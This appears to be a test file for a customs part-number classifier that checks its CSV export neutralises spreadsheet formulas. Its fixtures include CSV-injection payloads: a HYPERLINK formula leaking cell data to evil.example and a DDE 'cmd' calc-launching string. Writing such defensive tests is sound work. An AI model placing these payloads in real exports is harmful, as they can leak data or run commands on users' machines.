import t0 from 'tap'
import { parse } from 'csv-parse/sync'
import { request } from 'undici'
import { startServices, startStack, eventually } from '../helpers/stack.js'

// results.csv goes to spreadsheets: no cell may be read as a formula (OWASP, CSV Injection),
// whether it came from the user (part numbers) or from the AI server (description, manufacturer,
// country). Such a cell starts with a single quote; everything else is written as it is.

const { test } = t0
const services = await startServices()
const stack = await startStack(services, { simulator: { stepMs: 5 } })
t0.teardown(async () => { await stack.close(); await services.stop() })
const { token } = await stack.createUser('spreadsheet@nexa.test')

const finished = (id: string) => eventually(async () => {
  const job = await stack.api('GET', `/jobs/${id}`, { token })
  return ['DONE', 'FAILED'].includes(job.body.status) ? job.body : undefined
}, 20_000)

async function csvRows(jobId: string): Promise<{ text: string; rows: Array<Record<string, string>> }> {
  const res = await request(`${stack.url}/jobs/${jobId}/results.csv`, { headers: { authorization: `Bearer ${token}` } })
  const text = await res.body.text()
  return { text, rows: parse(text, { delimiter: ';', columns: true, bom: true }) }
}

// Part numbers as the gateway keeps them (upper case), each one a formula to a spreadsheet.
const HOSTILE_PARTNUMBERS = [
  '=HYPERLINK("HTTP://EVIL.EXAMPLE/?LEAK="&A1,"OPEN")',
  '+1+1',
  '-2+3',
  '@SUM(1;1)',
  '"=1+1"',
  '" =1+1', // a quote, a space, then the formula
  "' +1",
  '\uFF1D1+1', // a full-width equals sign
]

test('formulas in part numbers and in the AI server\'s description, manufacturer and country are neutralised', async (t) => {
  const benign = 'CSV-SAFE-1'
  const fromAi = { description: '=HYPERLINK("http://evil.example","details")', fabricante: '@SUM(A1:A9)', pais: '-1+1' }
  await stack.scenario(benign, { result: fromAi })
  const batch = await stack.api('POST', '/classifications/batch', { token, body: { partnumbers: [benign, ...HOSTILE_PARTNUMBERS].map((partnumber) => ({ partnumber })) } })
  t.equal(batch.status, 202)
  t.equal((await finished(batch.body.id)).status, 'DONE')

  const { text, rows } = await csvRows(batch.body.id)
  t.same(rows.map((r) => r['Part number']), [benign, ...HOSTILE_PARTNUMBERS.map((pn) => `'${pn}`)], 'part numbers')
  for (const row of rows) {
    t.equal(row['Descrição'], `'${fromAi.description}`, `${row['Part number']}: description`)
    t.equal(row.Fabricante, `'${fromAi.fabricante}`, `${row['Part number']}: manufacturer`)
    t.equal(row['País'], `'${fromAi.pais}`, `${row['Part number']}: country`)
    t.match(row.NCM, /^\d{4}\.\d{2}\.\d{2}$/, 'the NCM as it is')
    t.equal(row['Situação'], 'DONE')
    t.match(row['Confiança'], /^0,\d+$/)
  }
  const lines = text.trim().split('\r\n').slice(1)
  t.equal(lines.length, rows.length)
  // Confiança; Situação; Erro; then the review's columns (Situação da classificação ACTIVE, nothing else for these rows).
  // … and the NCM check's (its status; the official description and IPI rate when the table knows the code).
  for (const line of lines) t.match(line, /;0,\d+;"DONE";;"ACTIVE";;;;"(VALID|UNKNOWN)";/, 'the confidence is a bare number, text is quoted')

  const json = await stack.api('GET', `/jobs/${batch.body.id}/results.json`, { token })
  t.same(json.body.results.map((r: any) => r.partnumber), [benign, ...HOSTILE_PARTNUMBERS], 'JSON, for programs, keeps the values as they are')
  t.equal(json.body.results[0].description, fromAi.description)
})

test('a single job\'s row: quotes before a formula do not hide it; ordinary text is left alone', async (t) => {
  const partnumber = 'CSV-SINGLE-1'
  const fromAi = { description: '"=cmd|\' /C calc\'!A0"', fabricante: "'+ABS(1)", pais: '\uFF20A1' }
  await stack.scenario(partnumber, { result: fromAi })
  const job = await stack.api('POST', '/classifications', { token, body: { partnumber } })
  t.equal(job.status, 202)
  t.equal((await finished(job.body.id)).status, 'DONE')
  const { rows } = await csvRows(job.body.id)
  t.same(rows.map((r) => [r['Part number'], r['Descrição'], r.Fabricante, r['País']]), [[partnumber, `'${fromAi.description}`, `'${fromAi.fabricante}`, `'${fromAi.pais}`]])

  const plain = 'CSV-PLAIN-1'
  const ordinary = { description: 'Resistor 10k - 1% (0603) = SMD', fabricante: 'A+B Components', pais: 'CHINA, REPUBLICA POPULAR' }
  await stack.scenario(plain, { result: ordinary })
  const other = await stack.api('POST', '/classifications', { token, body: { partnumber: plain } })
  await finished(other.body.id)
  const { rows: plainRows } = await csvRows(other.body.id)
  t.same(plainRows.map((r) => [r['Part number'], r['Descrição'], r.Fabricante, r['País']]), [[plain, ordinary.description, ordinary.fabricante, ordinary.pais]])
})
